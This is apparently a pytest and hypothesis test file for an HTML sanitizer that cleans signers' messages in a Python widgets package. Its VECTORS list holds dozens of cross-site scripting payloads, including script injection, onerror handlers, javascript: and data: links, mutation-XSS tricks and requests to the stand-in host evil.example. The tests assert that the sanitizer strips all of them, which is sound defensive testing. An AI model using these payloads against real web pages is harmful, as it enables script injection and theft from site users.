"""A message is plain text, or HTML in which nothing runs, loads, styles or deceives."""

from __future__ import annotations

import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, reject
from hypothesis import strategies as st
from markupsafe import Markup

from solidarity_widgets.exceptions import InvalidFieldError, MissingExtraError
from solidarity_widgets.signing.intake.signer_message import clean_message, render_message

TAGS = set("a abbr acronym b blockquote cite code del em i q strike strong".split())
REL = "nofollow noopener noreferrer ugc"
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "abbr": {"title"},
    "acronym": {"title"},
    "blockquote": {"cite"},
    "q": {"cite"},
    "del": {"cite", "datetime"},
}


class Reader(HTMLParser):
    """Reads HTML as another program would: what elements, attributes and comments it has, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert len({name for name, _ in attrs}) == len(attrs)
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def hold(html: str) -> Reader:
    """Fail unless *html* has only what a message may have."""
    read = Reader(html)
    assert read.other == []
    for tag, attributes in read.elements:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set())
        if tag == "a":
            assert attributes["rel"] == REL
        for name in ("href", "cite"):
            if name in attributes:
                allowed = "https?://[^/]|mailto:." if name == "href" else "https?://[^/]"
                assert re.match(allowed, attributes[name] or "", re.IGNORECASE)
    return read


VECTORS = [
    "<script>steal()</script>",
    "<SCRIPT SRC=//evil.example></SCRIPT>",
    "<scr<script>ipt>steal()</scr</script>ipt>",
    "<style>@import url(//evil.example)</style>",
    "<style><img src=x onerror=steal()></style>",
    "<img src=x onerror=steal()>",
    "<svg onload=steal()>",
    "<svg><a xlink:href='javascript:steal()'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=steal()></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=steal()&gt;'>",
    "<math><mi xlink:href='javascript:steal()'>x",
    "<iframe srcdoc='<script>steal()</script>'></iframe>",
    "<object data='javascript:steal()'></object><embed src='javascript:steal()'>",
    "<form action='//evil.example'><input name=q autofocus onfocus=steal()><button>Go",
    "<base href='//evil.example/'><link rel=stylesheet href='//evil.example'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<template><script>steal()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=steal()>'>",
    "<textarea></textarea><script>steal()</script>",
    "<title><a title='</title><img src=x onerror=steal()>'>",
    "<xmp><a title='</xmp><img src=x onerror=steal()>'>x</xmp>",
    "<plaintext><b>x",
    "<!--><img src=x onerror=steal()>-->",
    "<!-- x --!><script>steal()</script>",
    "<![CDATA[<script>steal()</script>]]>",
    "<!doctype html><?xml version='1.0'?><b>x",
    "<a href='javascript:steal()'>x</a>",
    "<a href=' jAvAsCrIpT:steal()'>x</a>",
    "<a href='java\nscript:steal()'>x</a>",
    "<a href='java&#9;script:steal()'>x</a>",
    "<a href='&#x6a;&#97;vascript&colon;steal()'>x</a>",
    "<a href='\x01javascript:steal()'>x</a>",
    "<a href='data:text/html,<script>steal()</script>'>x</a>",
    "<a href='vbscript:steal()'>x</a><a href='blob:https://x.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a><a href='tel:+375291234567'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/withdraw?all=1'>x</a><a href='?x'>x</a><a href='#x'>x</a><a href=''>x</a>",
    "<a href='\\\\evil.example'>x</a><a href='https:\\evil.example'>x</a><a href='https:evil.example'>x</a>",
    "<a href='https://bank.example@evil.example/'>x</a>",
    "<a href='mailto:a@example.org?bcc=all@example.org&body=I%20confess'>x</a>",
    "<a href='https://example.org/' onclick=steal() style='position:fixed' class=x id=x target=_blank>x</a>",
    "<a href='https://example.org/' rel='opener dofollow' ping='//evil.example' download>x</a>",
    "<a data-sw-poll='//evil.example' aria-label=x tabindex=1 accesskey=x contenteditable slot=x is=x>x</a>",
    "<b style='background:url(//evil.example)'>x</b><b/onmouseover=steal()>x</b>",
    "<b onmouseover='steal()' <script>steal()</script>>x",
    "<blockquote cite='javascript:steal()'>x</blockquote><q cite='mailto:a@example.org'>x</q>",
    "<del datetime='x\" onclick=\"steal()' cite='data:,x'>x</del>",
    "<abbr title='\"><script>steal()</script>'>x</abbr>",
    '<abbr title="\'><img src=x onerror=steal()>">x</abbr>',
    "<em><em><em>" * 300,
    "</b></em></p>&lt;script&gt;steal()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "<b title=x lang=be>x</b><a lang=be dir=rtl>x</a>",
    "<b\x0cstyle=x>x<b\xa0x>",
    "<" * 200 + "a" + ">" * 200,
]


@pytest.mark.parametrize("vector", VECTORS)
def test_an_attack_leaves_nothing_that_runs(vector: str) -> None:
    cleaned = clean_message(f"Салют {vector} Алесь", html=True)
    read = hold(cleaned)
    assert read.text.startswith("Салют ")
    assert clean_message(cleaned, html=True) == cleaned
    shown = render_message(cleaned, html=True)
    assert isinstance(shown, Markup)
    assert shown == cleaned
    assert type(cleaned) is str


@pytest.mark.parametrize("vector", VECTORS)
def test_what_was_never_cleaned_is_cleaned_when_it_is_shown(vector: str) -> None:
    hold(render_message(vector, html=True))


PIECES = st.sampled_from(
    [
        *(
            "<",
            ">",
            '"',
            "'",
            "=",
            "/",
            "&",
            "&lt;",
            "&#60;",
            "&quot;",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            " ",
        ),
        *(f"<{tag}" for tag in sorted(TAGS | {"script", "style", "svg", "math", "p", "table", "noscript"})),
        *(f"</{tag}>" for tag in ("a", "b", "q", "script", "style", "svg", "title", "textarea")),
        *(
            " href=",
            " title=",
            " cite=",
            " onclick=",
            " style=",
            " rel=",
            " datetime=",
            "javascript:",
            "data:",
        ),
        *("https://example.org/", "mailto:a@example.org", "Алесь", "\n", "\t", "\x0c"),
    ]
)


@given(st.lists(PIECES | st.text(max_size=3), max_size=40).map("".join))
@example("<a href=https://[::1>x")
@example("<a title=&NewLine;>")
def test_whatever_is_written_only_the_list_comes_through(source: str) -> None:
    try:
        cleaned = clean_message(source, html=True)
    except InvalidFieldError:
        reject()  # a deceiving character; see below
    hold(cleaned)
    assert clean_message(cleaned, html=True) == cleaned


class TestWhatStays:
    """The list's elements, and the attributes that say something."""

    @pytest.mark.parametrize("tag", sorted(TAGS - {"a"}))
    def test_each_element(self, tag: str) -> None:
        assert clean_message(f"<{tag}>Алесь</{tag}>", html=True) == f"<{tag}>Алесь</{tag}>"

    @pytest.mark.parametrize(
        "link",
        [
            "https://example.org/?a=1#b",
            "http://example.org",
            "mailto:a.b+c@example.org",
            "https://пошта.example/шлях",
        ],
    )
    def test_links(self, link: str) -> None:
        read = hold(clean_message(f'<a href="{link}" title="Т&quot;т">x</a>', html=True))
        assert read.elements == [("a", {"href": link, "title": 'Т"т', "rel": REL})]

    @pytest.mark.parametrize(
        "source",
        [
            '<abbr title="Беларусь">РБ</abbr>',
            '<acronym title="Беларусь">РБ</acronym>',
            '<blockquote cite="https://example.org/">x</blockquote>',
            '<q cite="http://example.org/">x</q>',
            '<del datetime="2011-08-04T10:00:00+03:00">x</del>',
            "a\nb &lt; c &amp; d",
        ],
    )
    def test_attributes_and_text(self, source: str) -> None:
        assert clean_message(source, html=True) == source

    def test_paragraphs_leave_their_text(self) -> None:
        assert clean_message("<p>а</p><ul><li>б</ul>", html=True) == "аб"


class TestPlain:
    """Without HTML, a message is text and stays what it was."""

    @given(st.text(st.characters(exclude_categories=["Cs", "Cc", "Cf", "Cn"]), max_size=50))
    def test_it_is_stored_as_it_is(self, text: str) -> None:
        assert clean_message(text) == text

    def test_it_is_shown_escaped(self) -> None:
        assert render_message("<b>&\nx") == Markup("&lt;b&gt;&amp;\nx")

    def test_none_is_no_message(self) -> None:
        assert clean_message(None) == clean_message(None, html=True) == ""

    def test_markup_is_only_text(self) -> None:
        assert type(clean_message(Markup("<b>"))) is str


@pytest.mark.parametrize("html", [True, False])
@pytest.mark.parametrize("value", ["secret \u202e", b"secret", "secret \x07"])
def test_what_deceives_is_refused_without_being_repeated(value: object, html: bool) -> None:
    with pytest.raises(InvalidFieldError) as caught:
        clean_message(value, html=html)
    assert "secret" not in str(caught.value)
    assert caught.value.field == "message"


def test_a_character_reference_deceives_as_well() -> None:
    with pytest.raises(InvalidFieldError, match=r"U\+202E"):
        clean_message("<abbr title='&#x202e;'>x</abbr>", html=True)


def test_without_the_extra_it_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "nh3", None)
    with pytest.raises(MissingExtraError, match=r"solidarity-widgets\[html\]"):
        clean_message("x", html=True)
    assert clean_message("x") == "x"


def test_plain_messages_do_not_load_the_cleaner() -> None:
    program = (
        "import sys;"
        "from solidarity_widgets.signing.intake.signer_message import clean_message, render_message;"
        "render_message(clean_message('x')); sys.exit('nh3' in sys.modules)"
    )
    subprocess.run([sys.executable, "-c", program], check=True, env={"PYTHONPATH": ":".join(sys.path)})
